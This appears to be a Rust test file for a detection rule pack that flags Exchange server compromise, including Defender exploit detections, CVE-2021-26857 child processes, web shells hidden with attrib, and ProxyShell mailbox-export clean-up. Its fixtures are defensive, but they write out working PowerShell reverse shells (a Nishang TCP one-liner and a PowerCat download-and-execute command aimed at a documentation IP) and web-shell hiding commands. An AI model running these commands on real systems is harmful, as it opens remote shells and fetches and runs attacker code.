//! Rules that close gaps between the research note on Exchange artifacts and the built-in pack:
//! Defender's Exchange detections, the CVE-2021-26857 Unified Messaging child process, web shells
//! hidden with attrib, PowerShell reverse shells (Nishang, PowerCat) and the ProxyShell clean-up
//! in the remote PowerShell cmdlet log. Each rule fires on the published shape and stays silent
//! on the benign near-miss an Exchange server produces.

mod common;

use common::*;
use exhunt_detect::Detector;

/// A Defender Operational event with the EventData names the EVTX parser gives.
fn defender(det: &Detector, id: &str, threat: &str, path: &str, process: &str) -> Vec<String> {
    fire(
        det,
        &windefend(),
        &[
            ("EventID", id),
            ("Channel", "Microsoft-Windows-Windows Defender/Operational"),
            ("Provider_Name", "Microsoft-Windows-Windows Defender"),
            ("Threat Name", threat),
            ("Severity Name", "Severe"),
            ("Path", path),
            ("Process Name", process),
            ("Detection User", "NT AUTHORITY\\SYSTEM"),
        ],
    )
}

const W3WP: &str = r"c:\windows\system32\inetsrv\w3wp.exe";
const CMD: &str = r"C:\Windows\System32\cmd.exe";
const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
const ATTRIB: &str = r"C:\Windows\System32\attrib.exe";
const UM_BIN: &str = r"C:\Program Files\Microsoft\Exchange Server\V15\Bin";

#[test]
fn defender_exchange_detection_names() {
    let det = detector();
    let title = "Microsoft Defender Detected Exchange Exploitation or Web Shell Behaviour";
    let spawn = defender(
        &det,
        "1116",
        "Behavior:Win32/IISExchgSpawnCMD.A",
        r"process:_pid:4312,ProcessStart:132594870113925306",
        W3WP,
    );
    assert!(has(&spawn, title), "{spawn:?}");
    let session = defender(
        &det,
        "1117",
        "Behavior:Win32/SuspExchgSession.E",
        r"process:_pid:6740",
        W3WP,
    );
    assert!(has(&session, title), "{session:?}");
    let proxyshell = defender(
        &det,
        "1116",
        "Exploit:Win32/CVE-2021-31207.B",
        r"file:_C:\inetpub\wwwroot\aspnet_client\luifdecggoqmansn.aspx",
        r"C:\Program Files\Microsoft\Exchange Server\V15\Bin\MSExchangeMailboxReplication.exe",
    );
    assert!(has(&proxyshell, title), "{proxyshell:?}");

    // Detections an Exchange server also sees that say nothing about Exchange exploitation: the
    // EICAR test file, a potentially unwanted program, an exploit of another product's CVE.
    let eicar = defender(
        &det,
        "1116",
        "Virus:DOS/EICAR_Test_File",
        r"file:_C:\Users\exadmin\Downloads\eicar.com",
        r"C:\Windows\explorer.exe",
    );
    assert!(eicar.is_empty(), "{eicar:?}");
    let pua = defender(
        &det,
        "1117",
        "PUA:Win32/Presenoker",
        r"file:_C:\Users\exadmin\Downloads\toolbar_setup.exe",
        r"C:\Windows\explorer.exe",
    );
    assert!(pua.is_empty(), "{pua:?}");
    let other_cve = defender(
        &det,
        "1116",
        "Exploit:Win32/CVE-2017-11882.A",
        r"file:_C:\Users\exadmin\Downloads\invoice.rtf",
        r"C:\Windows\explorer.exe",
    );
    assert!(other_cve.is_empty(), "{other_cve:?}");
    // The same name outside a detection event (e.g. a history record) is not a detection.
    let history = defender(&det, "1013", "Behavior:Win32/IISExchgSpawnCMD.A", "", "");
    assert!(history.is_empty(), "{history:?}");
}

#[test]
fn um_worker_unexpected_child_cve_2021_26857() {
    let det = detector();
    let title = "Unified Messaging Process Started an Unexpected Program (CVE-2021-26857)";
    let worker = format!(r"{UM_BIN}\UMWorkerProcess.exe");
    let service = format!(r"{UM_BIN}\UMService.exe");
    // The payload: a dropped program and a shell, both under the UM worker.
    let implant = command_line(
        &det,
        &worker,
        r"C:\ProgramData\svchosts.exe",
        r"C:\ProgramData\svchosts.exe -k netsvcs",
    );
    assert!(has(&implant, title), "{implant:?}");
    let shell = command_line(
        &det,
        &worker,
        CMD,
        r#"cmd.exe /c "whoami > C:\inetpub\wwwroot\aspnet_client\o.txt""#,
    );
    assert!(has(&shell, title), "{shell:?}");
    assert!(has(&shell, "Spawned a Shell or Recon Tool"), "{shell:?}");

    // What the UM processes start in normal operation: error reporting when the worker crashes,
    // and the worker itself started by the UM service.
    let wer = command_line(
        &det,
        &worker,
        r"C:\Windows\System32\WerFault.exe",
        r"C:\Windows\system32\WerFault.exe -u -p 5120 -s 2048",
    );
    assert!(wer.is_empty(), "{wer:?}");
    let start = command_line(
        &det,
        &service,
        &worker,
        &format!(
            r#""{worker}" -pipe:2048 -stopkey:Global\ExchangeStopKey-1a2b -resetkey:Global\ExchangeResetKey-3c4d"#
        ),
    );
    assert!(start.is_empty(), "{start:?}");
}

#[test]
fn attrib_hides_web_shells() {
    let det = detector();
    let title = "Web Pages or Web Folders Hidden With attrib";
    // HAFNIUM's clean-up through China Chopper: the wrapper cmd.exe starts attrib in aspnet_client.
    let pages = command_line(&det, CMD, ATTRIB, "attrib  +h +s +r *.aspx");
    assert!(has(&pages, title), "{pages:?}");
    let folder = command_line(
        &det,
        CMD,
        ATTRIB,
        r#"attrib +h +s "C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\Current\themes""#,
    );
    assert!(has(&folder, title), "{folder:?}");

    // A responder un-hiding the same pages, and an administrator making web.config read-only.
    let unhide = command_line(
        &det,
        CMD,
        ATTRIB,
        r"attrib -h -s -r C:\inetpub\wwwroot\aspnet_client\*.aspx",
    );
    assert!(unhide.is_empty(), "{unhide:?}");
    let readonly = command_line(
        &det,
        CMD,
        ATTRIB,
        r#"attrib +r "C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\web.config""#,
    );
    assert!(readonly.is_empty(), "{readonly:?}");
    // Hiding a file that is not a web page, outside the web folders.
    let desktop = command_line(
        &det,
        CMD,
        ATTRIB,
        r"attrib +h +s C:\Users\Public\desktop.ini",
    );
    assert!(desktop.is_empty(), "{desktop:?}");
}

#[test]
fn powershell_reverse_shell_command_line() {
    let det = detector();
    let title = "PowerShell Reverse Shell (Nishang TCP One-Liner or PowerCat) in a Command Line";
    let nishang = command_line(
        &det,
        CMD,
        POWERSHELL,
        r#"powershell -nop -c "$client = New-Object System.Net.Sockets.TCPClient('198.51.100.23',443);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendbyte = ([text.encoding]::ASCII).GetBytes((iex $data 2>&1 | Out-String ));$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()""#,
    );
    assert!(has(&nishang, title), "{nishang:?}");
    let powercat = command_line(
        &det,
        CMD,
        POWERSHELL,
        r#"powershell.exe -c "IEX (New-Object System.Net.Webclient).DownloadString('https://raw.githubusercontent.com/besimorhino/powercat/master/powercat.ps1'); powercat -c 198.51.100.23 -p 443 -e powershell""#,
    );
    assert!(has(&powercat, title), "{powercat:?}");

    // An SMTP port check with a TCP client and no execution of received data, and a catalog
    // script whose name merely starts with "PowerCat".
    let port_check = command_line(
        &det,
        r"C:\Windows\explorer.exe",
        POWERSHELL,
        r#"powershell -c "$t = New-Object System.Net.Sockets.TcpClient('exch01.contoso.local',25); $s = $t.GetStream(); $r = New-Object IO.StreamReader($s); $r.ReadLine(); $t.Close()""#,
    );
    assert!(port_check.is_empty(), "{port_check:?}");
    let catalog = command_line(
        &det,
        r"C:\Windows\explorer.exe",
        POWERSHELL,
        r"powershell -File C:\Scripts\PowerCatalog-Export.ps1 -Out C:\Reports\catalog.csv",
    );
    assert!(catalog.is_empty(), "{catalog:?}");
}

#[test]
fn powershell_reverse_shell_script_block() {
    let det = detector();
    let title =
        "PowerShell Reverse Shell (Nishang TCP One-Liner or PowerCat) in a PowerShell Script Block";
    let one_liner = script_block(
        &det,
        "$client = New-Object System.Net.Sockets.TCPClient('198.51.100.23',443);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()",
    );
    assert!(has(&one_liner, title), "{one_liner:?}");
    let nishang = script_block(
        &det,
        "Invoke-PowerShellTcp -Reverse -IPAddress 198.51.100.23 -Port 443",
    );
    assert!(has(&nishang, title), "{nishang:?}");
    let powercat = script_block(&det, "powercat -c 198.51.100.23 -p 443 -e powershell");
    assert!(has(&powercat, title), "{powercat:?}");

    // A monitoring script that reads the SMTP banner with a TCP client and, further down on
    // another line, builds a command it runs with Invoke-Expression.
    let monitor = script_block(
        &det,
        "$tcp = New-Object System.Net.Sockets.TcpClient('localhost', 25)\n$banner = (New-Object IO.StreamReader($tcp.GetStream())).ReadLine()\n$tcp.Close()\n$cmd = \"Get-Queue -Server $env:COMPUTERNAME\"\nInvoke-Expression $cmd | Export-Csv C:\\Reports\\queues.csv",
    );
    assert!(monitor.is_empty(), "{monitor:?}");
}

#[test]
fn rps_cmdlet_remove_mailbox_export() {
    let det = detector();
    let title = "Remote PowerShell Removed a Mailbox Export Request";
    let removed = rps_cmdlet_row(
        &det,
        "Remove-MailboxExportRequest",
        r#"-Identity "administrator@contoso.com\MailboxExport" -Confirm "False""#,
    );
    assert!(has(&removed, title), "{removed:?}");
    // Administrators checking export requests or removing a finished move.
    let listed = rps_cmdlet_row(&det, "Get-MailboxExportRequest", r#"-Status "Completed""#);
    assert!(listed.is_empty(), "{listed:?}");
    let moved = rps_cmdlet_row(
        &det,
        "Remove-MoveRequest",
        r#"-Identity "alice@contoso.com""#,
    );
    assert!(moved.is_empty(), "{moved:?}");
}

/// Runs MSExchange Management cmdlet events (time, cmdlet, user) through a fresh copy of the
/// pack and its correlation pass; returns the titles of the correlation findings.
fn management_sequence(events: &[(&str, &str, &str)]) -> Vec<String> {
    let mut det = detector();
    let ls = mgmt();
    let mut inputs = Vec::new();
    for (i, (time, cmdlet, user)) in events.iter().enumerate() {
        let params = "-Mailbox \"ceo\"";
        // The EVTX parser gives each Data element and all of them joined.
        let data = format!("{cmdlet}\n{params}\n{user}");
        let fields = [
            ("EventID", "1"),
            ("Computer", "EXCH01.contoso.local"),
            ("Data[0]", *cmdlet),
            ("Data[1]", params),
            ("Data[2]", *user),
            ("Data", data.as_str()),
        ];
        let time: chrono::DateTime<chrono::Utc> = time.parse().unwrap();
        let hits = det.evaluate(&event(&ls, Some(time), i as u64 + 1, &fields));
        inputs.push(exhunt_detect::CorrelationInput {
            time,
            fields: fields
                .iter()
                .map(|(k, v)| (k.to_string(), v.to_string()))
                .collect(),
            detections: hits
                .into_iter()
                .filter(|h| h.feeds_correlation)
                .map(|h| h.result)
                .collect(),
            reference: i,
        });
    }
    det.correlate(inputs)
        .into_iter()
        .map(|h| h.rule.title.clone())
        .collect()
}

#[test]
fn export_then_removal_by_the_same_account_is_one_sequence() {
    let title = "Mailbox Export Followed by Removal of the Request by the Same Account";
    let system = "NT AUTHORITY\\SYSTEM";
    // ProxyShell's shape: export, then removal minutes later, same account.
    let out = management_sequence(&[
        ("2021-08-20T03:57:26Z", "New-MailboxExportRequest", system),
        (
            "2021-08-20T04:11:17Z",
            "Remove-MailboxExportRequest",
            system,
        ),
    ]);
    assert!(has(&out, title), "{out:?}");
    // Each event alone still reports its own finding.
    let single = fire(
        &detector(),
        &mgmt(),
        &[
            ("Data[0]", "Remove-MailboxExportRequest"),
            ("Data", "Remove-MailboxExportRequest\n-Identity x\nadmin"),
        ],
    );
    assert!(has(&single, "Mailbox Export Request Removed"), "{single:?}");
    // Removal first, another account, or a day later: no sequence.
    for events in [
        [
            (
                "2021-08-20T03:57:26Z",
                "Remove-MailboxExportRequest",
                system,
            ),
            ("2021-08-20T04:11:17Z", "New-MailboxExportRequest", system),
        ],
        [
            ("2021-08-20T03:57:26Z", "New-MailboxExportRequest", system),
            (
                "2021-08-20T04:11:17Z",
                "Remove-MailboxExportRequest",
                "CONTOSO\\admin",
            ),
        ],
        [
            ("2021-08-20T03:57:26Z", "New-MailboxExportRequest", system),
            (
                "2021-08-21T04:11:17Z",
                "Remove-MailboxExportRequest",
                system,
            ),
        ],
    ] {
        let out = management_sequence(&events);
        assert!(!has(&out, title), "{events:?}: {out:?}");
    }
}
